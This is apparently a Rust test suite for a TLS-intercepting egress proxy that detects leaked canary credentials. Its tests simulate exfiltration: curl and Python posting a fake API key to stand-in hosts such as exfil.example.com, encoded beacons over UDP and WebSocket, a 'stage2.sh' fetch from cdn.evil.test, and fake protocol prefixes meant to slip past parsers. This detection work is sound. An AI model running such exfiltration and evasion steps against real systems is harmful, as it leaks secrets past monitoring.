//! The TLS-intercepting proxy on loopback, driven by real clients (curl, Python, raw sockets).
//! Without netfilter in these tests, the listener's own address stands in for the original
//! destination (`OriginalDst::LocalAddrFallback`); clients are pointed at it with
//! `--connect-to`/`--resolve`, proxy variables, or directly.

use observer::egress::canary::Needle;
use observer::egress::proxy::{
    CertAuthority, ForwardRequest, ForwardResponse, ProxyConfig, Upstream,
};
use observer::egress::{start, EgressConfig, EgressHandle, EgressSockets, OriginalDst};
use observer::trace::EventKind;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

const SECRET: &str = "sk-ant-api03-Zq8vR2mXkP4wT7nB1cY6hJ9dL3fG5sA0";

type Events = Arc<Mutex<Vec<EventKind>>>;

struct Rig {
    handle: EgressHandle,
    events: Events,
    addr: SocketAddr,
    udp: SocketAddr,
    ca_path: PathBuf,
    _dir: tempfile::TempDir,
}

fn rig(tune: impl FnOnce(&mut ProxyConfig)) -> Rig {
    let dir = tempfile::tempdir().unwrap();
    let ca = Arc::new(CertAuthority::generate(Some(dir.path())).unwrap());
    let ca_path = ca.pem_path().unwrap().to_path_buf();
    let mut pc = ProxyConfig::new(ca);
    pc.first_byte_timeout = Duration::from_millis(500);
    pc.stream_idle = Duration::from_secs(2);
    tune(&mut pc);
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (addr, uaddr) = (tcp.local_addr().unwrap(), udp.local_addr().unwrap());
    let events: Events = Arc::default();
    let ev = Arc::clone(&events);
    let cfg = EgressConfig {
        needles: vec![Needle {
            value: SECRET.into(),
            canary: "anthropic_key".into(),
            credential: "claude-json".into(),
            service_hosts: vec!["api.anthropic.com".into()],
        }],
        original_dst: OriginalDst::LocalAddrFallback,
        proxy: Some(pc),
        shutdown_grace: Duration::from_secs(1),
        ..EgressConfig::default()
    };
    let sockets = EgressSockets {
        transparent_tcp: vec![tcp],
        udp_catchall: vec![udp],
        ..Default::default()
    };
    let handle = start(sockets, cfg, move |k| {
        let mut v = ev.lock().unwrap();
        v.push(k);
        v.len() as u64
    })
    .unwrap();
    Rig {
        handle,
        events,
        addr,
        udp: uaddr,
        ca_path,
        _dir: dir,
    }
}

impl Rig {
    async fn finish(self) -> Vec<EventKind> {
        let status = self.handle.shutdown().await;
        assert!(status.is_complete(), "{status:?}");
        let v = self.events.lock().unwrap().clone();
        v
    }
}

async fn run(cmd: &mut Command) -> (bool, String, String) {
    let out = tokio::task::block_in_place(|| cmd.output()).expect("spawn client");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

fn requests(ev: &[EventKind]) -> Vec<(String, String, u64)> {
    ev.iter()
        .filter_map(|e| match e {
            EventKind::HttpRequest {
                method,
                url,
                body_size,
                ..
            } => Some((method.clone(), url.clone(), *body_size)),
            _ => None,
        })
        .collect()
}

fn hits(ev: &[EventKind]) -> Vec<(Vec<String>, Option<String>)> {
    ev.iter()
        .filter_map(|e| match e {
            EventKind::CanaryHit { chain, host, .. } => Some((chain.clone(), host.clone())),
            _ => None,
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_https_h2_and_h1_intercepted_with_canary_in_body() {
    let r = rig(|_| {});
    let connect_to = format!("exfil.example.com:443:127.0.0.1:{}", r.addr.port());
    for ver in ["--http2", "--http1.1"] {
        let (ok, out, err) = run(Command::new("curl")
            .args(["-sS", "--max-time", "10", ver, "--cacert"])
            .arg(&r.ca_path)
            .args([
                "--connect-to",
                &connect_to,
                "-H",
                "Content-Type: application/json",
                "--data",
                &format!("{{\"key\":\"{SECRET}\"}}"),
                "https://exfil.example.com/upload?src=ci",
            ]))
        .await;
        assert!(ok, "curl {ver}: {err}");
        assert!(out.contains("\"status\":\"ok\""), "{out}");
    }
    let ev = r.finish().await;
    let reqs = requests(&ev);
    assert_eq!(
        reqs.iter()
            .filter(|(m, u, n)| m == "POST"
                && u == "https://exfil.example.com/upload?src=ci"
                && *n > 0)
            .count(),
        2,
        "{reqs:?}"
    );
    let tls: Vec<_> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::TlsHandshake {
                sni,
                alpn,
                intercepted,
                ..
            } => Some((sni.clone(), alpn.clone(), *intercepted)),
            _ => None,
        })
        .collect();
    assert!(
        tls.iter()
            .all(|(s, _, i)| s.as_deref() == Some("exfil.example.com") && *i),
        "{tls:?}"
    );
    assert!(tls.iter().any(|(_, a, _)| a.contains(&"h2".to_string())));
    let h = hits(&ev);
    assert!(
        h.iter()
            .any(|(c, host)| c == &["body"] && host.as_deref() == Some("exfil.example.com")),
        "{h:?}"
    );
    // Every connection is recorded with the client's source port for the pid join.
    assert!(ev.iter().any(
        |e| matches!(e, EventKind::Connection { proto, src_port: Some(_), .. } if proto == "tcp")
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ip_literal_gets_an_ip_san_and_validates() {
    let r = rig(|_| {});
    let url = format!(
        "https://127.0.0.1:{}/probe?k={}",
        r.addr.port(),
        hex::encode(SECRET)
    );
    let (ok, _, err) = run(Command::new("curl")
        .args(["-sS", "--max-time", "10", "--cacert"])
        .arg(&r.ca_path)
        .arg(&url))
    .await;
    assert!(ok, "IP-literal certificate rejected: {err}");
    let ev = r.finish().await;
    assert!(
        requests(&ev).iter().any(|(_, u, _)| u == &url),
        "{:?}",
        requests(&ev)
    );
    assert!(
        hits(&ev).iter().any(|(c, _)| c == &["url", "hex"]),
        "{:?}",
        hits(&ev)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pinned_client_aborts_and_the_handshake_is_recorded() {
    let r = rig(|_| {});
    // No --cacert: the system store does not trust the run's root, as with a pinned client.
    let (ok, _, _) = run(Command::new("curl").args([
        "-sS",
        "--max-time",
        "10",
        "--resolve",
        &format!("pinned.example:{0}:127.0.0.1", r.addr.port()),
        &format!("https://pinned.example:{}/", r.addr.port()),
    ]))
    .await;
    assert!(!ok);
    let ev = r.finish().await;
    let tls: Vec<_> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::TlsHandshake {
                sni,
                intercepted,
                bytes_out,
                bytes_in,
                ..
            } => Some((sni.clone(), *intercepted, *bytes_out, *bytes_in)),
            _ => None,
        })
        .collect();
    assert_eq!(tls.len(), 1, "{tls:?}");
    let (sni, intercepted, out, inn) = tls[0].clone();
    assert_eq!(sni.as_deref(), Some("pinned.example"));
    assert!(!intercepted && out > 100 && inn > 100, "{tls:?}");
    assert!(requests(&ev).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proxy_aware_clients_connect_and_absolute_form() {
    let r = rig(|_| {});
    let proxy = format!("http://127.0.0.1:{}", r.addr.port());
    // Plain HTTP through HTTP_PROXY (absolute-form request line).
    let (ok, _, err) = run(Command::new("curl").args([
        "-sS",
        "--max-time",
        "10",
        "-x",
        &proxy,
        "http://plain.example.net/a?token=",
        "--data-urlencode",
        &format!("v={SECRET}"),
    ]))
    .await;
    assert!(ok, "{err}");
    // HTTPS through HTTPS_PROXY: CONNECT, then TLS inside the tunnel.
    let (ok, _, err) = run(Command::new("curl")
        .args(["-sS", "--max-time", "10", "-x", &proxy, "--cacert"])
        .arg(&r.ca_path)
        .arg("https://tunnel.example.org:8443/x"))
    .await;
    assert!(ok, "{err}");
    // Python, if present: urllib with proxy variables, and requests when installed.
    let script = format!(
        r#"
import os, ssl, urllib.request
ctx = ssl.create_default_context(cafile=os.environ["CA"])
h = urllib.request.ProxyHandler({{"https": os.environ["P"], "http": os.environ["P"]}})
o = urllib.request.build_opener(h, urllib.request.HTTPSHandler(context=ctx))
print(o.open(urllib.request.Request("https://py.example.com/u", data=b"x={SECRET}")).status)
try:
    import requests
except ImportError:
    raise SystemExit(0)
print(requests.post("https://rq.example.com/r", json={{"k": "{SECRET}"}}, verify=os.environ["CA"], proxies={{"https": os.environ["P"]}}).status_code)
"#
    );
    let py = run(Command::new("python3")
        .arg("-c")
        .arg(&script)
        .env("CA", &r.ca_path)
        .env("P", &proxy))
    .await;
    let ev = r.finish().await;
    let urls: Vec<String> = requests(&ev).into_iter().map(|(_, u, _)| u).collect();
    assert!(
        urls.contains(&"http://plain.example.net/a?token=".to_string()),
        "{urls:?}"
    );
    assert!(
        urls.contains(&"tunnel.example.org:8443".to_string()),
        "CONNECT recorded: {urls:?}"
    );
    assert!(
        urls.contains(&"https://tunnel.example.org:8443/x".to_string()),
        "{urls:?}"
    );
    let h = hits(&ev);
    assert!(
        h.iter()
            .any(|(c, host)| c == &["body"] && host.as_deref() == Some("plain.example.net")),
        "{h:?}"
    );
    if py.0 {
        assert!(
            urls.contains(&"https://py.example.com/u".to_string()),
            "{urls:?}"
        );
        assert!(
            h.iter()
                .any(|(_, host)| host.as_deref() == Some("py.example.com")),
            "{h:?}"
        );
        if py.1.lines().count() == 2 {
            assert!(
                urls.contains(&"https://rq.example.com/r".to_string()),
                "{urls:?}"
            );
        }
    } else {
        eprintln!("python client not run: {}", py.2);
    }
}

/// Connects a raw socket to the proxy as a CONNECT client and sends `payload` inside the tunnel.
fn connect_tunnel(proxy: SocketAddr, target: SocketAddr, payload: &[u8]) {
    let mut s = TcpStream::connect(proxy).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    write!(s, "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").unwrap();
    let mut resp = [0u8; 256];
    let n = s.read(&mut resp).unwrap();
    assert!(
        resp[..n].starts_with(b"HTTP/1.1 200"),
        "{:?}",
        String::from_utf8_lossy(&resp[..n])
    );
    s.write_all(payload).unwrap();
    s.shutdown(std::net::Shutdown::Write).unwrap();
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_reaches_a_real_listener_whatever_goes_through_the_tunnel() {
    let r = rig(|_| {});
    // A real upstream on another loopback port: it must never see a connection.
    let sentinel = TcpListener::bind("127.0.0.1:0").unwrap();
    sentinel.set_nonblocking(true).unwrap();
    let target = sentinel.local_addr().unwrap();
    let proxy = r.addr;
    let mut ssh = b"SSH-2.0-OpenSSH_9.6\r\n\x00\x00\x01\x0c\x0a\x14".to_vec();
    ssh.extend_from_slice(SECRET.as_bytes());
    tokio::task::spawn_blocking(move || {
        connect_tunnel(proxy, target, &ssh);
        connect_tunnel(
            proxy,
            target,
            b"\x00\xffgarbage\x01\x02 not a protocol at all",
        );
        connect_tunnel(
            proxy,
            target,
            format!("GET /x HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes(),
        );
        // Raw bytes straight to the transparent listener (a client ignoring proxies).
        let mut s = TcpStream::connect(proxy).unwrap();
        s.write_all(format!("\x01raw:{SECRET}").as_bytes()).unwrap();
    })
    .await
    .unwrap();
    let ev = r.finish().await;
    match sentinel.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the sentinel was reached: {other:?}"),
    }
    let streams: Vec<_> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::Stream {
                dst_addr,
                dst_port,
                preview,
                bytes_out,
                ..
            } => Some((
                dst_addr.clone(),
                *dst_port,
                preview.clone().unwrap_or_default(),
                *bytes_out,
            )),
            _ => None,
        })
        .collect();
    assert!(
        streams.iter().any(|(a, p, pre, _)| a == "127.0.0.1"
            && *p == target.port()
            && pre.starts_with("SSH-2.0-")),
        "{streams:?}"
    );
    assert!(
        streams
            .iter()
            .any(|(_, p, pre, _)| *p == target.port() && pre.starts_with("\\x00\\xffgarbage")),
        "{streams:?}"
    );
    assert!(
        requests(&ev)
            .iter()
            .any(|(m, u, _)| m == "GET" && u == &format!("http://{target}/x")),
        "{:?}",
        requests(&ev)
    );
    let h = hits(&ev);
    assert!(
        h.iter().filter(|(c, _)| c == &["stream"]).count() >= 2,
        "{h:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn udp_datagrams_are_recorded_and_searched() {
    let r = rig(|_| {});
    let to = r.udp;
    tokio::task::spawn_blocking(move || {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.send_to(format!("beacon {}", base64_std(SECRET)).as_bytes(), to)
            .unwrap();
        s.send_to(b"second", to).unwrap();
    })
    .await
    .unwrap();
    // No wait: datagrams still queued at shutdown are drained, not lost.
    let ev = r.finish().await;
    let udp: Vec<_> = ev
        .iter()
        .filter(|e| matches!(e, EventKind::Stream { proto, .. } if proto == "udp"))
        .collect();
    assert_eq!(udp.len(), 2, "{ev:?}");
    assert_eq!(
        ev.iter()
            .filter(|e| matches!(e, EventKind::Connection { proto, .. } if proto == "udp"))
            .count(),
        1,
        "one flow"
    );
    assert!(
        hits(&ev).iter().any(|(c, _)| c == &["datagram", "base64"]),
        "{:?}",
        hits(&ev)
    );
}

fn base64_std(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

struct Recorded(Mutex<Vec<String>>);

#[async_trait::async_trait]
impl Upstream for Recorded {
    async fn forward(&self, req: ForwardRequest) -> Result<ForwardResponse, String> {
        self.0.lock().unwrap().push(req.url.clone());
        Ok(ForwardResponse {
            status: 201,
            headers: vec![("content-type".into(), "application/json".into())],
            body: br#"{"model":"real"}"#.to_vec(),
        })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn responses_dir_and_passthrough_only_for_listed_hosts() {
    let stage = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(stage.path().join("cdn.evil.test/s")).unwrap();
    std::fs::write(
        stage.path().join("cdn.evil.test/s/stage2.sh"),
        "echo second-stage\n",
    )
    .unwrap();
    let up = Arc::new(Recorded(Mutex::default()));
    let up2 = Arc::clone(&up);
    let dir = stage.path().to_path_buf();
    let r = rig(move |c| {
        c.responses_dir = Some(dir);
        c.passthrough = vec!["api.anthropic.com".into()];
        c.upstream = Some(up2);
    });
    let port = r.addr.port();
    let get = |host: &str, path: &str| {
        let mut c = Command::new("curl");
        c.args(["-sS", "--max-time", "10", "--cacert"])
            .arg(&r.ca_path)
            .args([
                "--connect-to",
                &format!("{host}:443:127.0.0.1:{port}"),
                "-w",
                "\n%{http_code}",
                &format!("https://{host}{path}"),
            ]);
        c
    };
    let (_, stage2, _) = run(&mut get("cdn.evil.test", "/s/stage2.sh?x=1")).await;
    let (_, model, _) = run(&mut get("api.anthropic.com", "/v1/messages")).await;
    let (_, other, _) = run(&mut get("api.anthropic.com.evil.test", "/v1/messages")).await;
    let ev = r.finish().await;
    assert_eq!(stage2, "echo second-stage\n\n200");
    assert_eq!(model, "{\"model\":\"real\"}\n201");
    assert!(other.ends_with("200") && !other.contains("real"), "{other}");
    assert_eq!(
        *up.0.lock().unwrap(),
        vec!["https://api.anthropic.com/v1/messages".to_string()]
    );
    assert_eq!(requests(&ev).len(), 3);
}

#[test]
fn tcp_sockets_without_a_proxy_config_are_refused() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let _g = rt.enter();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let r = start(
        EgressSockets {
            transparent_tcp: vec![tcp],
            ..Default::default()
        },
        EgressConfig::default(),
        |_| 0,
    );
    assert!(r.is_err());
}

/// Without a netfilter redirect the kernel has no original destination: `None`, never a guess.
#[tokio::test]
async fn original_dst_is_none_without_a_redirect() {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let a = l.local_addr().unwrap();
    let c = tokio::net::TcpStream::connect(a).await.unwrap();
    let (s, _) = l.accept().await.unwrap();
    assert_eq!(observer::egress::proxy::original_dst(&s), None);
    drop(c);
}

/// An attacker prefixes the payload with bytes that look like TLS or HTTP so a parser rejects
/// it: the bytes are still recorded as a raw stream and searched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fake_tls_and_fake_http_prefixes_do_not_hide_a_payload() {
    let r = rig(|_| {});
    let proxy = r.addr;
    tokio::task::spawn_blocking(move || {
        for prefix in [&b"\x16\x03\x01\x00\x05junk!"[..], b"GET \x00\x01"] {
            let mut s = TcpStream::connect(proxy).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            // One write: the server may reject and close as soon as it has seen the prefix.
            let mut msg = prefix.to_vec();
            msg.extend_from_slice(format!("{SECRET}\r\n\r\n").as_bytes());
            s.write_all(&msg).unwrap();
            let _ = s.shutdown(std::net::Shutdown::Write);
            let mut rest = Vec::new();
            let _ = s.read_to_end(&mut rest);
        }
    })
    .await
    .unwrap();
    let ev = r.finish().await;
    let previews: Vec<String> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::Stream { preview, .. } => preview.clone(),
            _ => None,
        })
        .collect();
    assert!(
        previews.iter().any(|p| p.starts_with("\\x16\\x03\\x01")),
        "{previews:?}"
    );
    assert!(
        previews.iter().any(|p| p.starts_with("GET \\x00")),
        "{previews:?}"
    );
    assert_eq!(
        hits(&ev).iter().filter(|(c, _)| c == &["stream"]).count(),
        2,
        "{:?} {previews:?}",
        hits(&ev)
    );
    assert!(ev.iter().any(|e| matches!(
        e,
        EventKind::TlsHandshake {
            intercepted: false,
            ..
        }
    )));
}

/// A part that dies makes the capture incomplete, naming the part. A socket that was bound but
/// never put into listening state makes `accept` fail with EINVAL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_part_is_reported_by_name() {
    use std::os::fd::FromRawFd;
    // SAFETY: a fresh socket fd, bound, handed to TcpListener which then owns it.
    let broken = unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        assert!(fd >= 0);
        let mut sa: libc::sockaddr_in = std::mem::zeroed();
        sa.sin_family = libc::AF_INET as libc::sa_family_t;
        sa.sin_addr.s_addr = u32::from_ne_bytes([127, 0, 0, 1]);
        let rc = libc::bind(
            fd,
            (&sa as *const libc::sockaddr_in).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as u32,
        );
        assert_eq!(rc, 0);
        TcpListener::from_raw_fd(fd)
    };
    let ca = Arc::new(CertAuthority::generate(None).unwrap());
    let cfg = EgressConfig {
        proxy: Some(ProxyConfig::new(ca)),
        ..EgressConfig::default()
    };
    let h = start(
        EgressSockets {
            transparent_tcp: vec![broken],
            ..Default::default()
        },
        cfg,
        |_| 0,
    )
    .unwrap();
    let t = std::time::Instant::now();
    while h.failures().is_empty() && t.elapsed() < Duration::from_secs(5) {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(
        h.failures().iter().any(|f| f.part == "proxy"),
        "{:?}",
        h.failures()
    );
    let status = h.shutdown().await;
    assert!(!status.is_complete());
    assert!(
        status
            .incomplete_reasons()
            .iter()
            .any(|r| r.starts_with("egress proxy failed: accept")),
        "{:?}",
        status.incomplete_reasons()
    );
}

/// A WebSocket client (raw RFC 6455 bytes, masked frames) gets its upgrade and its frames are
/// unmasked and searched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_frames_are_unmasked_and_searched() {
    let r = rig(|_| {});
    let proxy = r.addr;
    let accept = tokio::task::spawn_blocking(move || {
        let mut s = TcpStream::connect(proxy).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        write!(
            s,
            "GET /socket HTTP/1.1\r\nHost: ws.example.net\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
             Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        .unwrap();
        let mut resp = [0u8; 512];
        let n = s.read(&mut resp).unwrap();
        let resp = String::from_utf8_lossy(&resp[..n]).to_string();
        let payload = base64_std(SECRET);
        let mask = [0x11u8, 0x22, 0x33, 0x44];
        for (i, chunk) in payload.as_bytes().chunks(10).enumerate() {
            let last = (i + 1) * 10 >= payload.len();
            let mut f = vec![(if last { 0x80 } else { 0 }) | (if i == 0 { 1 } else { 0 }), 0x80 | chunk.len() as u8];
            f.extend_from_slice(&mask);
            f.extend(chunk.iter().enumerate().map(|(k, b)| b ^ mask[k % 4]));
            s.write_all(&f).unwrap();
        }
        s.write_all(&[0x88, 0x80, 1, 2, 3, 4]).unwrap();
        let _ = s.shutdown(std::net::Shutdown::Write);
        resp
    })
    .await
    .unwrap();
    assert!(accept.starts_with("HTTP/1.1 101"), "{accept}");
    assert!(
        accept
            .to_ascii_lowercase()
            .contains("sec-websocket-accept: s3pplmbitxaq9kygzzhzrbk+xoo="),
        "{accept}"
    );
    let ev = r.finish().await;
    assert!(
        ev.iter()
            .any(|e| matches!(e, EventKind::Stream { proto, .. } if proto == "websocket")),
        "{ev:?}"
    );
    assert!(
        hits(&ev)
            .iter()
            .any(|(c, h)| c == &["websocket", "base64"] && h.as_deref() == Some("ws.example.net")),
        "{:?}",
        hits(&ev)
    );
}
